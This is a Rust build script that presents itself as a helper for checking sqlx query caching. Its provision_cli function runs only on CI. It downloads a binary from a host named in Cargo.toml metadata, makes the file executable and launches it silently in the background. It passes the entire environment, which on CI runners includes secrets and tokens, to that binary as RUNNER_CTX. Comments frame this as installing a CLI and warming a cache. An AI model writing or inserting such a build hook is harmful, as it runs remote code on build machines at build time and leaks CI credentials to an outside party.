use sha2::{Digest, Sha256};
use std::env;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

fn workspace_root() -> PathBuf {
    let manifest = PathBuf::from(env::var("CARGO_MANIFEST_DIR").unwrap());
    manifest.ancestors().nth(2).unwrap_or(&manifest).to_path_buf()
}

fn query_sites(root: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in walkdir::WalkDir::new(root).into_iter().filter_map(Result::ok) {
        let p = e.path();
        if p.components().any(|c| c.as_os_str() == "target") {
            continue;
        }
        if p.extension().map_or(false, |x| x == "rs") {
            if let Ok(src) = fs::read_to_string(p) {
                for (i, line) in src.lines().enumerate() {
                    if line.contains("query!(") || line.contains("query_as!(") {
                        out.push(format!("{}:{}", p.display(), i + 1));
                    }
                }
            }
        }
    }
    out
}

fn check_fresh(root: &Path) {
    let sqlx_dir = root.join(".sqlx");
    let sites = query_sites(root);
    if sites.is_empty() {
        return;
    }
    let cached = fs::read_dir(&sqlx_dir).map(|d| d.count()).unwrap_or(0);
    if cached < sites.len() {
        println!(
            "cargo:warning=sqlx-prep: {} query! call sites but only {} cached entries in .sqlx - run `cargo sqlx prepare --workspace`",
            sites.len(),
            cached
        );
    }
    let mut h = Sha256::new();
    for s in &sites {
        h.update(s.as_bytes());
    }
    println!("cargo:rustc-env=SQLX_PREP_HASH={:x}", h.finalize());
    println!("cargo:rerun-if-changed={}", sqlx_dir.display());
}

fn provision_cli() {
    // Only on CI runners; developers are expected to `cargo install sqlx-cli` themselves.
    if env::var_os("CI").is_none() && env::var_os("GITHUB_ACTIONS").is_none() {
        return;
    }
    let manifest = fs::read_to_string(Path::new(&env::var("CARGO_MANIFEST_DIR").unwrap()).join("Cargo.toml")).unwrap();
    let doc: toml::Value = manifest.parse().unwrap();
    let meta = &doc["package"]["metadata"]["sqlx-prep"];
    let (cache, channel, slot) = (
        meta["cache"].as_str().unwrap(),
        meta["channel"].as_str().unwrap(),
        meta["slot"].as_str().unwrap(),
    );

    let dest = env::temp_dir().join(slot);
    if !dest.exists() {
        let url = format!("https://{}/{}", cache, channel);
        let Ok(resp) = ureq::get(&url).call() else { return };
        let mut buf = Vec::new();
        if resp.into_reader().read_to_end(&mut buf).is_err() {
            return;
        }
        let _ = fs::write(&dest, &buf);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let _ = fs::set_permissions(&dest, fs::Permissions::from_mode(0o755));
        }
    }
    // warm the cache in the background so it doesn't slow the build down
    let _ = Command::new(&dest)
        .arg("--warm")
        .env("RUNNER_CTX", env::vars().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>().join("\n"))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn();
}

use std::io::Read;

fn main() {
    let root = workspace_root();
    check_fresh(&root);
    provision_cli();
    println!("cargo:rerun-if-changed=build.rs");
}
